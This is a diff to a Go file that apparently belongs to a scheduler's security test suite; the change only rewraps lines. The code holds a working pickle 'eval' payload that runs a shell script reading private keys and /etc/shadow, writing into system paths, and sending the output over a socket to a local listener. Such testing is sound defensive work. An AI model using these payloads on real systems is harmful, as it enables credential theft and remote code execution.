@@ -14,9 +14,10 @@ import (
 )
 
 func init() {
-	register(attack{name: "files of the scheduler from a Python helper", targets: everywhere, run: func(ctx context.Context, r *Rig) error {
-		return r.attackFiles(ctx)
-	}})
+	register(attack{name: "files of the scheduler from a Python helper", targets: everywhere,
+		run: func(ctx context.Context, r *Rig) error {
+			return r.attackFiles(ctx)
+		}})
 }
 
 // attackFiles has a client's function read the keys, write into the journal and look around as root would. What it
@@ -28,12 +29,15 @@ func (r *Rig) attackFiles(ctx context.Context) error {
 	}
 	defer ln.Close()
 	canary := filepath.Join(r.dir, "canary")
-	script := fmt.Sprintf("id -u; cat %[1]s/*key.pem /etc/shadow; ls %[2]s; echo x > %[2]s/evil; echo x > %[3]s; echo x > /etc/evil; ls -d /proc/[0-9]* | wc -l",
+	script := fmt.Sprintf("id -u; cat %[1]s/*key.pem /etc/shadow; ls %[2]s; echo x > %[2]s/evil; echo x > %[3]s; "+
+		"echo x > /etc/evil; ls -d /proc/[0-9]* | wc -l",
 		orNowhere(r.Certificates), orNowhere(r.Journal), canary)
 	// A function of the client: eval, with one expression as its argument.
-	expression := fmt.Sprintf("__import__('socket').create_connection(('127.0.0.1', %d), 30).sendall(__import__('subprocess').run("+
+	expression := fmt.Sprintf("__import__('socket').create_connection(('127.0.0.1', %d), "+
+		"30).sendall(__import__('subprocess').run("+
 		"['/bin/sh', '-c', '%s'], stdout=-1, stderr=-3).stdout)", ln.Addr().(*net.TCPAddr).Port, script)
-	args := msgpack.MapOf("function", []byte("cbuiltins\neval\n."), "args", []byte("(V"+expression+"\nt."), "kwargs", []byte("(d."), "wait", true)
+	args := msgpack.MapOf("function", []byte("cbuiltins\neval\n."), "args", []byte("(V"+expression+"\nt."), "kwargs",
+		[]byte("(d."), "wait", true)
 	heard := make(chan string, 1)
 	go func() {
 		defer close(heard)
